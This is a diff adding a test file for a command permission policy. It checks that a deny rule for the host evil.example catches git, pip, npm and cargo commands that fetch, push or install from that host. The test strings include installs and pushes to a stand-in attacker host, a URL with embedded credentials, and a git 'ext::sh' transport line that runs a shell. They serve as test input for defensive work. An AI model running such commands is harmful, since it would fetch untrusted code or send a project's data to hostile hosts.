@@ -1,0 +1,69 @@
+/** A rule about hosts is asked about whoever a command's words name, and covers nobody whom no word names. */
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { type OwnPolicy, openOwnPolicy } from '../support/own-policy.ts';
+
+let policy: OwnPolicy;
+beforeAll(async () => {
+  policy = await openOwnPolicy(`
+version: 1
+description: One host may be contacted, and another not.
+rules:
+  - id: known
+    allow: { effects: [read, write, network, execute-code, package], hosts: [good.example] }
+    reason: It is known.
+  - id: rival
+    deny: { hosts: [evil.example] }
+    reason: It is not ours.
+`);
+});
+afterAll(() => policy.close());
+
+describe('a rule about hosts', () => {
+  it.each([
+    'git clone https://evil.example/x.git',
+    'git clone git@evil.example:x/y.git z',
+    'git clone evil.example:x/y.git',
+    'git -C /srv/x clone ssh://git@evil.example/x',
+    'git fetch https://evil.example/x.git main',
+    'git push https://evil.example:8443/x.git main',
+    'git pull https://user:word@evil.example/x',
+    'git ls-remote "https://evil.example/x.git"',
+    'git submodule add https://evil.example/x.git lib/x',
+    'pip install https://evil.example/x.whl',
+    'pip install --index-url=https://evil.example/simple x',
+    'pip install git+https://evil.example/x',
+    'npm install https://good.example/a.tgz https://evil.example/x.tgz',
+    'npm ci --registry=https://evil.example',
+    'cargo install --git https://EVIL.example./x',
+    'uv pip install https://evil.example/x.whl',
+  ])('sees %s', async (command) => {
+    expect(await policy.verdictOf(command)).toBe('deny');
+  });
+
+  it.each([
+    'git pull',
+    'git push origin main',
+    'git clone "$url"',
+    'git clone "https://$host/x"',
+    'git clone https://"$host".good.example/x',
+    'git clone other.example:x',
+    'git clone ext::sh x',
+    'npm install x',
+    'pip install x',
+    'pip install "git+https://$host/x"',
+  ])('covers no one but whom it names: %s', async (command) => {
+    expect(await policy.verdictOf(command)).not.toBe('allow');
+  });
+
+  it.each([
+    'git clone https://good.example/x',
+    'git clone "https://good.example/$x"',
+    'git clone git@good.example:x/y.git',
+    'git push ssh://git@good.example:2222/x main',
+    'pip install git+https://good.example/x',
+    'curl https://good.example/',
+    'ls',
+  ])('covers whom it names: %s', async (command) => {
+    expect(await policy.verdictOf(command)).toBe('allow');
+  });
+});
